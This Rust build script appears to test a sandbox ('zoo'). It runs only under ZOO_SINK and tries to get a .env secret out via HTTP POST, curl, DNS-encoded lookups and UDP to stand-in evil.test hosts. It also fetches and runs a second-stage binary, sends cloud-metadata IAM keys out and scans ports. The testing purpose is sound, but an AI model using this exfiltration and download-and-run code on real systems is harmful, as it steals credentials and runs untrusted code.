//! Sends a secret by every way there is, fetches a program and runs it, and looks whether the world is a real one. Only where it is told that nothing
//! leaves (`ZOO_SINK`, the directory of a sink): there is no harmless way to do it elsewhere.

use std::fmt::Display;
use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, ToSocketAddrs, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

fn main() {
    println!("cargo::rerun-if-env-changed=ZOO_SINK");
    let Ok(sink) = std::env::var("ZOO_SINK") else { return };
    let place = std::env::var("ZOO_PLACE").unwrap();
    let text = std::fs::read_to_string(format!("{place}/home/code/.env")).unwrap();
    let secret = text.trim().split_once('=').unwrap().1.to_owned();
    say("posted", post("collect.evil.test:80", &secret));
    curl("plain", &["http://curl.evil.test/in", "-d", &secret]);
    let authority = format!("{sink}/ca-certificates.crt");
    curl("trusting", &["--cacert", &authority, "https://secure.evil.test/in", "-d", &secret]);
    curl("doubting", &["https://secure.evil.test/in", "-d", &secret]);
    say("datagram", datagram(&secret));
    for (number, piece) in hex(&secret).as_bytes().chunks(18).enumerate() {
        let _ = format!("{}.{number}.leak.test:80", std::str::from_utf8(piece).unwrap()).to_socket_addrs();
    }
    say("second stage", second_stage());
    say("credentials", credentials());
    say("own server", own_server());
    say("unknown name", "kq3vz8x1pw7trm2.test:80".to_socket_addrs().map(|found| found.count()));
    let port = |name| std::env::var(name).unwrap().parse::<u16>().unwrap();
    say("neighbour", TcpStream::connect(("127.0.0.1", port("ZOO_TCP"))).map(|_| "met"));
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    say("neighbour's datagram", udp.send_to(b"zoo", ("127.0.0.1", port("ZOO_UDP"))));
    // An address of this machine's own, where somebody listens who must not hear of it.
    if let Ok(here) = std::env::var("ZOO_HERE") {
        say("here", post(&here, &secret));
        say("here, a datagram", UdpSocket::bind("0.0.0.0:0").unwrap().send_to(secret.as_bytes(), &here));
    }
    say("scanned", Ok::<_, io::Error>((1..=400).filter(|port| TcpStream::connect(("192.0.2.33", *port)).is_ok()).count()));
}

fn say(what: &str, outcome: io::Result<impl Display>) {
    match outcome {
        Ok(outcome) => println!("zoo: {what}: {outcome}"),
        Err(error) => println!("zoo: {what}: failed, {:?}", error.kind()),
    }
}

/// By hand, as whoever has no crate for it does, with a limit: the socket does not block meanwhile.
fn post(to: &str, secret: &str) -> io::Result<String> {
    let address = to.to_socket_addrs()?.next().unwrap();
    let mut stream = TcpStream::connect_timeout(&address, Duration::from_secs(5))?;
    assert_eq!(stream.peer_addr()?, address);
    write!(stream, "POST /collect?v=1 HTTP/1.1\r\nHost: {to}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{secret}", secret.len())?;
    let mut answer = String::new();
    stream.read_to_string(&mut answer)?;
    Ok(answer.lines().next().unwrap_or_default().to_owned())
}

fn curl(what: &str, args: &[&str]) {
    match Command::new("curl").args(["-sS", "-m", "10", "--noproxy", "*", "-o", "/dev/null", "-w", "%{http_code}"]).args(args).output() {
        Ok(output) => println!("zoo: curl, {what}: {}", String::from_utf8_lossy(&output.stdout)),
        Err(_) => println!("zoo: curl, {what}: not installed"),
    }
}

fn datagram(secret: &str) -> io::Result<usize> {
    let backwards: String = secret.chars().rev().collect();
    let to: Vec<SocketAddr> = "drop.evil.test:9999".to_socket_addrs()?.filter(SocketAddr::is_ipv4).collect();
    UdpSocket::bind("0.0.0.0:0")?.send_to(backwards.as_bytes(), to[0])
}

fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

fn get(to: &str, path: &str) -> io::Result<Vec<u8>> {
    let mut stream = TcpStream::connect(to)?;
    write!(stream, "GET {path} HTTP/1.0\r\n\r\n")?;
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer)?;
    let body = answer.windows(4).position(|window| window == b"\r\n\r\n").map_or(0, |at| at + 4);
    Ok(answer.split_off(body))
}

fn second_stage() -> io::Result<String> {
    let path = Path::new(&std::env::var("OUT_DIR").unwrap()).join("agent");
    std::fs::write(&path, get("dl.evil.test:8080", "/agent-linux")?)?;
    std::fs::set_permissions(&path, PermissionsExt::from_mode(0o755))?;
    Ok(Command::new(path).status()?.to_string())
}

fn credentials() -> io::Result<String> {
    let text = get("169.254.169.254:80", "/latest/meta-data/iam/security-credentials/app")?;
    let text = String::from_utf8_lossy(&text).into_owned();
    let token = text.split("SecretAccessKey\":\"").nth(1).unwrap_or("nothing").split('"').next().unwrap_or_default().to_owned();
    post("collect.evil.test:80", &token)
}

fn own_server() -> io::Result<String> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let mut client = TcpStream::connect(listener.local_addr()?)?;
    client.write_all(b"hello")?;
    let mut heard = [0; 5];
    listener.accept()?.0.read_exact(&mut heard)?;
    Ok(String::from_utf8_lossy(&heard).into_owned())
}
